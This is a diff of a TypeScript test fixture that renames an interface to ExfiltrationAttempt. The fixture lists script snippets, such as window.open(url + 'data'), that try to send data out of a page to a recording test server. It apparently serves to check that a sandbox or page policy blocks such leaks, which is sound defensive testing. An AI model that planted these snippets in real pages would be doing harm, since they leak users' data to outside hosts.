@@ -2,7 +2,7 @@
  * Attempts by a script to send data out of a page, as source text for the page. Each is a function of a destination `{
  * host, port, url }`, which records everything received. It resolves when the attempt is complete. `url` ends in `/`.
  */
-export interface WayOut {
+export interface ExfiltrationAttempt {
   readonly name: string
   readonly source: string
   /**
@@ -14,7 +14,7 @@ export interface WayOut {
   readonly leaves?: true
 }
 
-const once = (name: string, body: string, more: Partial<WayOut> = {}): WayOut => ({
+const once = (name: string, body: string, more: Partial<ExfiltrationAttempt> = {}): ExfiltrationAttempt => ({
   name,
   source: `async ({ host, port, url }) => { ${body} }`,
   ...more,
@@ -37,7 +37,7 @@ const gathering = (scope: string, server: string) => `
 
 const FRAME = "const frame = document.createElement('iframe'); document.body.append(frame)"
 
-export const waysOut: readonly WayOut[] = [
+export const waysOut: readonly ExfiltrationAttempt[] = [
   once('window.open', "window.open(url + 'data')", open),
   once('window.open with a name and no opener', "window.open(url + 'data', 'other', 'noopener,noreferrer')", open),
   once(
